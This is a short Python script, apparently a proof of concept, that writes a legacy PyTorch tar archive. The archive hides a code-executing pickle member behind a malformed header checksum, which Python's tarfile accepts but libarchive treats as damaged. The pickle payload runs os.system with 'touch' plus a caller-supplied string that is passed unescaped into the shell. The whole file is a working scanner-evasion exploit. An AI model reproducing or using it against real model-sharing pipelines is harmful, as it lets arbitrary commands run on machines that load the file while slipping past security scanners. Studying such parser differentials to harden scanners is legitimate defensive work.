"""Legacy torch tar: benign 'tensors' and 'pickle' members first, then 'storages' whose header checksum is
spelled '0o' + octal digits (or '+', '_'): tarfile's nti reads it, libarchive calls the header damaged and stops.
usage: python3 tar_later_chksum.py OUT MARKER [0o|plus|underscore]"""
import sys

from tarblocks import header, pad

def main(out, marker, spell="0o"):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    blocks = []
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks += [header(b"storages", len(payload), spell=spell), pad(payload)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
